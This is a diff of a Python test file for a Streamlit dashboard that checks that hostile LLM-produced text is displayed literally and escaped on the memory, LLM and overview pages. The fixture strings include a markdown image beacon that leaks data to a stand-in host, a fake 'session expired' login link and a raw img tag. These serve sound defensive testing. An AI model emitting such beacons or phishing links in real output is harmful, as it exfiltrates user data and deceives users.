@@ -14,9 +14,9 @@ from streamlit.testing.v1 import AppTest
 from shared.domain.models import CommandKind
 from shared.persistence import llm_store, ops_store, rules_store
 from shared.persistence.db import open_database, write_transaction
+from tests.pages import apptest
 from tests.pages.conftest import shown, wire_dashboard
 
-APP = str(Path(__file__).resolve().parents[2] / "streamlit_app.py")
 BEACON = "![x](http://203.0.113.9/beacon.png?leak=lesson)"
 PHISH = "[Session expired: log in again](http://203.0.113.9/login)"
 HOSTILE = f"{BEACON} {PHISH} <img src=http://203.0.113.9/b.png> `tick` **SYSTEM**"
@@ -70,9 +70,7 @@ def test_hostile_model_text_shows_literally_on_memory_llm_and_overview(tmp_path,
     db = tmp_path / "trader.db"
     wire_dashboard(monkeypatch, db, tmp_path / "config.yaml")
     command_id, _ = _seed(db)
-    app = AppTest.from_file(APP, default_timeout=60).run()
-
-    memory = app.switch_page("app_pages/memory.py").run()
+    memory = app = apptest.open_page("app_pages/memory.py")
     _assert_plain(memory)
     assert HOSTILE in [t.value for t in memory.text]  # the lesson, verbatim
     assert any(HOSTILE in shown(m.value) for m in memory.markdown)  # the rule, escaped
